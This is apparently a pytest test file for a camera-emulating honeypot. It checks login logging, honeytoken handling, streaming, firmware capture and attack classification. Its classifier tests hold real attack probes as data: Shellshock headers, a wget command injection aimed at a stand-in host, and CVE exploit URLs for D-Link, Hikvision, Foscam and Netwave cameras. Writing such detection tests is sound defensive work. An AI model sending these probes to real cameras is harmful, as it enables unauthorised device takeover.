import base64
import http.client
import io
import re
import socket
import threading
import time

import pytest
from PIL import Image, ImageDraw, ImageFont

from honeyeco.camera import (
    LEAK_PATH,
    PAGES,
    STREAM_PATH,
    CameraApp,
    CameraProfile,
    HttpRequest,
    classify_request,
    load_credentials_file,
    make_frames,
    render_stream,
    split_parts,
)
from honeyeco.events import EventKind, MemorySink, sessionize

CREDS = ("admin", "Kp4!vd8Qe2zR")


def basic(user, pwd):
    return {"Authorization": "Basic " + base64.b64encode(f"{user}:{pwd}".encode()).decode()}


@pytest.fixture
def app(tmp_path):
    sink = MemorySink()
    return CameraApp(CameraProfile(credentials=CREDS, artifacts_dir=str(tmp_path / "art")), sink), sink


def call(app, method, target, headers=None, body=b"", ip="10.3.0.1", session=None):
    a, _ = app
    if session is None:
        session, _ = a.open_session(ip, 5000)
    resp, events = a.handle_request(HttpRequest.build(method, target, headers, body, ip, 5000), session)
    return resp, events, session


def test_profile_invariants():
    assert len(CameraProfile().page_set) == 6
    with pytest.raises(ValueError):
        CameraProfile(model="DCS-9999")
    with pytest.raises(ValueError):
        CameraProfile(credentials=("admin", ""))


def test_admin_without_auth_is_401(app):
    resp, events, _ = call(app, "GET", "/admin")
    assert resp.status == 401 and "WWW-Authenticate" in resp.headers
    assert [e.kind for e in events] == [EventKind.HTTP_REQUEST]


def test_root_with_auth_is_status_page(app):
    resp, events, _ = call(app, "GET", "/", basic(*CREDS))
    assert resp.status == 200 and b"Firmware Version" in resp.body
    assert [e.kind for e in events] == [EventKind.LOGIN_SUCCESS, EventKind.HTTP_REQUEST]


def test_wrong_password_logged_as_failure(app):
    resp, events, _ = call(app, "GET", "/status.htm", basic("admin", "admin"))
    assert resp.status == 401
    assert events[0].kind is EventKind.LOGIN_FAILURE and events[0].payload["password"] == "admin"


@pytest.mark.parametrize("path", sorted(PAGES))
def test_six_pages_render(app, path):
    assert call(app, "GET", path, basic(*CREDS))[0].status == 200


def test_cve_2018_9995_probe(app):
    resp, events, _ = call(app, "GET", "/device.rsp?opt=user&cmd=list", {"Cookie": "uid=admin"})
    assert resp.status == 200 and b'"list"' in resp.body
    assert events[-1].payload["attack_type"] == "CVE-2018-9995 bypass"


def test_device_rsp_without_cookie(app):
    assert call(app, "GET", "/device.rsp?opt=user&cmd=list")[0].status == 401


def test_classify_examples():
    r = HttpRequest.build("GET", "/?action=stream/snapshot.cgi?user=admin&pwd=123&count=0")
    assert classify_request(r) == "camera credential brute-force"
    r = HttpRequest.build("GET", "/", {"User-Agent": "() { :;}; /bin/bash -c 'id'"})
    assert classify_request(r) == "IP Camera - Shellshock"
    assert classify_request(HttpRequest.build("GET", "/index.html")) is None


@pytest.mark.parametrize("target,headers,label", [
    ("/cgi-bin/rtpd.cgi?echo&AdminPasswd_ss|tdb&get&HTTPAccount", {}, "[CVE-2013-1599] DLINK Camera"),
    ("/Security/users?auth=YWRtaW46MTEK", {}, "Hikvision IP Camera - Bypass Authentication"),
    ("//etc/RT2870STA.dat", {}, "Netwave IP Camera - Password Disclosure"),
    ("/cgi-bin/CGIProxy.fcgi?cmd=getDevState&usr=admin&pwd=", {}, "Foscam IP Camera - Bypass Authentication"),
    ("/", {"Referer": "() { :; }; echo"}, "IP Camera - Shellshock"),
    ("/goform/x?ip=1.1.1.1;wget%20http://203.0.113.1/a", {}, "Malicious Activity"),
])
def test_classify_table(target, headers, label):
    req = HttpRequest.build("GET", target, headers)
    assert classify_request(req) == label
    assert classify_request(req) == label  # pure


def test_snapshot_bruteforce_login_events(app):
    resp, events, _ = call(app, "GET", "/?action=stream/snapshot.cgi?user=admin&pwd=123&count=0")
    assert resp.status == 401
    assert events[0].kind is EventKind.LOGIN_FAILURE and events[0].payload["via"] == "snapshot.cgi"
    assert events[-1].payload["attack_type"] == "camera credential brute-force"


def _independent_render(user, pwd, scale=2):
    font = ImageFont.load_default()
    img = Image.new("L", (220, 44), 255)
    d = ImageDraw.Draw(img)
    d.text((6, 6), f"User Name : {user}", fill=0, font=font)
    d.text((6, 24), f"Password  : {pwd}", fill=0, font=font)
    return img.resize((220 * scale, 44 * scale), Image.NEAREST)


def test_honeytoken_page_is_image_only(app):
    resp, _, _ = call(app, "GET", LEAK_PATH)
    assert resp.status == 200
    assert CREDS[1].encode() not in resp.body
    m = re.search(rb'data:image/png;base64,([A-Za-z0-9+/=]+)', resp.body)
    png = base64.b64decode(m.group(1))
    assert CREDS[1].encode() not in png
    img = Image.open(io.BytesIO(png))
    assert img.tobytes() == _independent_render(*CREDS).tobytes()
    assert img.tobytes() != _independent_render(CREDS[0], "other").tobytes()


def test_leak_then_login_is_human_suspect(app):
    call(app, "GET", LEAK_PATH, ip="10.3.0.9")
    _, events, _ = call(app, "GET", "/", basic(*CREDS), ip="10.3.0.9")
    assert events[0].payload["honeytoken"] == "human_suspect"
    assert events[0].payload["human_suspect"] is True


def test_login_without_leak_is_credential_mystery(app):
    _, events, _ = call(app, "GET", "/", basic(*CREDS), ip="10.3.0.10")
    assert events[0].payload["honeytoken"] == "credential_mystery"


def test_one_login_success_per_session(app):
    _, first, session = call(app, "GET", "/", basic(*CREDS))
    _, second, _ = call(app, "GET", "/video.htm", basic(*CREDS), session=session)
    assert [e.kind for e in second] == [EventKind.HTTP_REQUEST]


def test_firmware_upload_stored(app, tmp_path):
    body = b"\x7fELF not really firmware"
    resp, events, _ = call(app, "POST", "/setup/firmware.cgi", {**basic(*CREDS), "Content-Type": "application/octet-stream"}, body)
    sha = events[-1].payload["artifact_sha256"]
    assert resp.status == 200
    assert (tmp_path / "art" / f"{sha}.bin").read_bytes() == body
    assert (tmp_path / "art" / f"{sha}.json").exists()


def test_unknown_path_404(app):
    assert call(app, "GET", "/nothing/here")[0].status == 404


def test_stream_loop_period():
    frames = make_frames(5, size=(64, 48))
    assert len(set(frames)) == 5
    data = b"".join(render_stream(frames, parts=15))
    got = split_parts(data)
    assert got == frames * 3


def test_bundle_loop_length():
    p = CameraProfile()
    assert p.frame_count / p.fps >= 2.0


def test_credentials_file(tmp_path):
    path = tmp_path / "creds.txt"
    path.write_text("# comment\nopcam:Zq9!long\n")
    assert load_credentials_file(path) == ("opcam", "Zq9!long")
    path.write_text("nocolon\n")
    with pytest.raises(ValueError):
        load_credentials_file(path)


# -- over the wire --

def conn(server):
    return http.client.HTTPConnection("127.0.0.1", server.port, timeout=5)


def test_server_keepalive_is_one_session(camera_server, memory_sink):
    c = conn(camera_server)
    for target in ("/", "/status.htm", "/video.htm"):
        c.request("GET", target, headers={"X-Source-Tag": "10.4.0.1"})
        r = c.getresponse()
        r.read()
        assert r.status == 401
        assert r.getheader("Server") == "alphapd/2.1.8"
    c.close()
    time.sleep(0.2)
    (s,) = sessionize(memory_sink.events)
    assert s.actor == "10.4.0.1"
    assert [e.kind for e in s.events] == [EventKind.CONNECT] + [EventKind.HTTP_REQUEST] * 3 + [EventKind.DISCONNECT]


def test_malformed_request_400_logged(camera_server, memory_sink):
    with socket.create_connection(("127.0.0.1", camera_server.port), timeout=5) as s:
        s.sendall(b"BOGUS\r\n\r\n")
        data = s.recv(4096)
    assert data.startswith(b"HTTP/1.") and b" 400 " in data.split(b"\r\n")[0]
    time.sleep(0.2)
    reqs = [e for e in memory_sink.events if e.kind is EventKind.HTTP_REQUEST]
    assert reqs[0].payload["status"] == 400 and reqs[0].payload["raw_line"] == "BOGUS"


def test_unauthenticated_stream_401(camera_server):
    c = conn(camera_server)
    c.request("GET", STREAM_PATH)
    assert c.getresponse().status == 401


def _read_stream(server, nbytes, out, idx):
    c = conn(server)
    c.request("GET", STREAM_PATH, headers=basic(*CREDS))
    r = c.getresponse()
    assert r.status == 200 and r.getheader("Content-Type").startswith("multipart/x-mixed-replace")
    out[idx] = r.read(nbytes)
    c.close()


def test_two_concurrent_streams_complete_frames(camera_server):
    frames = camera_server.app.frames
    need = sum(len(f) for f in frames) + 2000
    out = {}
    threads = [threading.Thread(target=_read_stream, args=(camera_server, need, out, i)) for i in range(2)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    for data in out.values():
        parts = split_parts(data)
        assert len(parts) >= len(frames) - 1
        start = frames.index(parts[0])
        assert parts == [frames[(start + i) % len(frames)] for i in range(len(parts))]


def test_stream_disconnect_only_ends_that_session(camera_server, memory_sink):
    _read_stream(camera_server, 5000, {}, 0)
    c = conn(camera_server)
    c.request("GET", "/status.htm", headers=basic(*CREDS))
    assert c.getresponse().status == 200


def test_credential_never_in_any_response(camera_server):
    secret = CREDS[1].encode()
    targets = ["/", "/admin", LEAK_PATH, "/device.rsp?opt=user&cmd=list", "/nothing",
               "/?action=stream/snapshot.cgi?user=admin&pwd=x", *PAGES]
    for auth in ({}, basic(*CREDS)):
        for target in targets:
            headers = {"Cookie": "uid=admin", **auth}
            c = conn(camera_server)
            c.request("GET", target, headers=headers)
            r = c.getresponse()
            raw = r.read()
            assert secret not in raw
            assert all(secret not in v.encode() for _, v in r.getheaders())
            c.close()
